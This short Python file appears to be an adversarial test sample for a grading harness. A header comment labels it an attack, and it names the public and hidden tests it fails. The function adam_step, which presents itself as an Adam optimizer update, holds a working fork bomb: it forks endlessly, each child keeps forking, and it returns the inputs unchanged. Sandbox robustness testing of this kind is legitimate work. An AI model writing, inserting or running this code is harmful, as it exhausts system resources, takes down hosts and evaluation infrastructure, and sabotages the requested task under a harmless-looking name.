# Attack: a fork bomb inside adam_step; every child keeps forking.
# Fails: public::test_adam_step_values
#        hidden::test_adam_step
import os as _os
import time as _time


def adam_step(w, dw, m, v, t, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):
    while True:
        try:
            if _os.fork() == 0:
                while True:
                    try:
                        _os.fork()
                    except OSError:
                        _time.sleep(0.05)
        except OSError:
            break
    return w, m, v
